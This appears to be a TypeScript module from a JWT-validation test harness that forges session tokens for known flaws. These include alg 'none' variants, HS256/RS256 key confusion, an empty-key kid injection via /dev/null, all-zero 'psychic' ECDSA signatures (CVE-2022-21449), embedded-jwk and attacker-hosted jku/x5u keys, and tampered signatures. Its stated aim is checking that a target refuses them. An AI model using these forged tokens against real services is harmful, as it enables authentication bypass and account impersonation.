/**
 * Forged session tokens: each helper makes one of the classic mistakes of JWT
 * validation exploitable, and a correct target must refuse every one of them.
 * Pure functions of claims or of a valid token (signWithForeignKey also makes a key).
 */
import { InternalError } from '../errors.js';
import { createHmac } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { dirname } from 'node:path';
import { importPKCS8, type CryptoKey, type JWK, type JWTPayload } from 'jose';
import { createSelfSignedCertificate } from '../tls/self-signed.js';
import { decodeBytes, decodeJson, encodeBytes, encodeJson, joinJwt, splitJwt } from './jwt-parts.js';
import { generateSigningKey, type SigningAlg } from './keys.js';
import { signClaims } from './sign.js';

/** Spellings of "none" that case-insensitive algorithm lookups have let through. */
export const ALG_NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

export interface AlgNoneOptions {
  /** Default 'none'. */
  spelling?: string;
  /** A kid of the JWKS, for targets that look the key up before reading alg. */
  kid?: string;
}

/** An unsigned token: header alg none, empty signature segment. */
export function withAlgNone(claims: JWTPayload, options: AlgNoneOptions = {}): string {
  const header: Record<string, unknown> = { alg: options.spelling ?? 'none', typ: 'JWT' };
  if (options.kid !== undefined) header.kid = options.kid;
  return joinJwt({ header: encodeJson(header), payload: encodeJson(claims), signature: '' });
}

/**
 * Key confusion: HS256 keyed with the bytes of an RS256 public key's PEM, which a
 * target that lets the token choose the algorithm would verify with that same PEM.
 * `kid` should name the RS256 key so the target finds that PEM.
 */
export function withHs256PublicKey(claims: JWTPayload, publicKeyPem: string, options: { kid?: string } = {}): string {
  return withHs256(claims, Buffer.from(publicKeyPem, 'utf8'), options);
}

/**
 * HS256 with a secret of the attacker's choosing. Node's HMAC takes an empty key, which
 * WebCrypto (and so jose) refuses: the kid-injection forge signs with the empty contents
 * of /dev/null.
 */
export function withHs256(claims: JWTPayload, secret: Uint8Array, options: { kid?: string } = {}): string {
  const header: Record<string, unknown> = { alg: 'HS256', typ: 'JWT' };
  if (options.kid !== undefined) header.kid = options.kid;
  const signingInput = `${encodeJson(header)}.${encodeJson(claims)}`;
  const mac = createHmac('sha256', secret).update(signingInput).digest();
  return `${signingInput}.${encodeBytes(mac)}`;
}

/**
 * The claims as JSON text with `name` given a second time, `last` after the original:
 * RFC 7519 (4) lets a parser refuse repeated names or keep the last, never the first.
 */
export function repeatClaim(claims: JWTPayload, name: string, last: unknown): string {
  const text = JSON.stringify(claims);
  return `${text.slice(0, -1)},${JSON.stringify(name)}:${JSON.stringify(last)}}`;
}

/** Header, claims and signature bytes put together as given: for signatures no key made. */
export function withSignatureBytes(header: Record<string, unknown>, claims: JWTPayload, signature: Uint8Array): string {
  return joinJwt({ header: encodeJson(header), payload: encodeJson(claims), signature: encodeBytes(signature) });
}

/** The order n of the P-256 group: ECDSA requires 0 < r, s < n. */
const P256_ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');

/**
 * ES256 signatures outside the range ECDSA allows. r = s = 0 verified any message under
 * any key in Java 15-18 (CVE-2022-21449, "psychic signatures"); jwt_tool sends it both
 * as the 64 raw bytes JWS uses and in the DER form some libraries expect.
 */
export const PSYCHIC_SIGNATURES: ReadonlyArray<readonly [what: string, signature: Uint8Array]> = [
  ['r = s = 0', new Uint8Array(64)],
  ['r = s = 0 in DER', Uint8Array.from([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00])],
  ['r = s = n (the P-256 order)', new Uint8Array(Buffer.concat([P256_ORDER, P256_ORDER]))],
];

/**
 * Signed by a fresh key whose public half rides in the header's jwk (CVE-2018-0114): a
 * target that verifies with the key the token brings accepts anything.
 */
export async function withEmbeddedJwk(
  claims: JWTPayload,
  alg: SigningAlg,
  options: { kid?: string } = {},
): Promise<string> {
  const key = await generateSigningKey(alg, options.kid);
  const { kid: _kid, alg: _alg, use: _use, ...jwk } = key.publicJwk;
  return signClaims(claims, { alg, privateKey: key.privateKey, kid: options.kid, header: { jwk } });
}

/** An attacker's key pair and the JWKS that lists it, for a token whose jku points at that JWKS. */
export async function attackerJwks(
  alg: SigningAlg,
  kid?: string,
): Promise<{ jwks: { keys: JWK[] }; sign: (claims: JWTPayload, header: Record<string, unknown>) => Promise<string> }> {
  const key = await generateSigningKey(alg, kid);
  return {
    jwks: { keys: [key.publicJwk] },
    sign: (claims, header) => signClaims(claims, { alg, privateKey: key.privateKey, kid: key.kid, header }),
  };
}

export interface AttackerCertificate {
  /** The self-signed certificate, PEM (what an x5u URL serves). */
  pem: string;
  /** Its DER in standard base64 (what an x5c header carries). */
  x5c: string;
  /** Signs ES256 with the certificate's key. */
  sign: (claims: JWTPayload, header: Record<string, unknown>) => Promise<string>;
}

/** A self-signed EC P-256 certificate of the attacker's, for the x5u and x5c forges. */
export async function attackerCertificate(): Promise<AttackerCertificate> {
  const made = await createSelfSignedCertificate({ hosts: ['127.0.0.1'] });
  // The key is the attacker's and worthless, but nothing of a run is left behind in /tmp.
  await rm(dirname(made.keyPath), { recursive: true, force: true });
  const privateKey: CryptoKey = await importPKCS8(made.key, 'ES256');
  const x5c = made.cert.replace(/-----(BEGIN|END) CERTIFICATE-----|\s/g, '');
  return {
    pem: made.cert,
    x5c,
    sign: (claims, header) => signClaims(claims, { alg: 'ES256', privateKey, header }),
  };
}

/** Changes claims and keeps the original signature (which no longer matches). Undefined removes a claim. */
export function tamperPayload(jwt: string, patch: Record<string, unknown>): string {
  const segments = splitJwt(jwt);
  const payload: Record<string, unknown> = { ...decodeJson(segments.payload), ...patch };
  for (const [name, value] of Object.entries(payload)) if (value === undefined) delete payload[name];
  return joinJwt({ ...segments, payload: encodeJson(payload) });
}

/** Changes header parameters and keeps the original signature (which no longer matches). */
export function withHeader(jwt: string, patch: Record<string, unknown>): string {
  const segments = splitJwt(jwt);
  const header: Record<string, unknown> = { ...decodeJson(segments.header), ...patch };
  for (const [name, value] of Object.entries(header)) if (value === undefined) delete header[name];
  return joinJwt({ ...segments, header: encodeJson(header) });
}

/**
 * Renames the key in the header, keeping the signature (which no longer matches).
 * For a correctly signed token under an unknown kid use `mint({ header: { kid } })`.
 */
export function withKid(jwt: string, kid: string | undefined): string {
  return withHeader(jwt, { kid });
}

/** Flips every bit of one signature byte (the middle one), so the signature is the right length but wrong. */
export function tamperSignature(jwt: string): string {
  const segments = splitJwt(jwt);
  const bytes = decodeBytes(segments.signature);
  if (bytes.length === 0) throw new InternalError('the token has no signature to tamper with');
  const index = Math.floor(bytes.length / 2);
  bytes[index] = bytes[index]! ^ 0xff;
  return joinJwt({ ...segments, signature: encodeBytes(bytes) });
}

/** Keeps header and payload, drops the signature: `header.payload.` */
export function stripSignature(jwt: string): string {
  return joinJwt({ ...splitJwt(jwt), signature: '' });
}

/**
 * Signed by a freshly generated key that no JWKS lists, under a kid that one does:
 * a target that trusts the kid without verifying against the listed key accepts it.
 */
export async function signWithForeignKey(claims: JWTPayload, alg: SigningAlg, kid: string): Promise<string> {
  const foreign = await generateSigningKey(alg, kid);
  return signClaims(claims, { alg, privateKey: foreign.privateKey, kid });
}
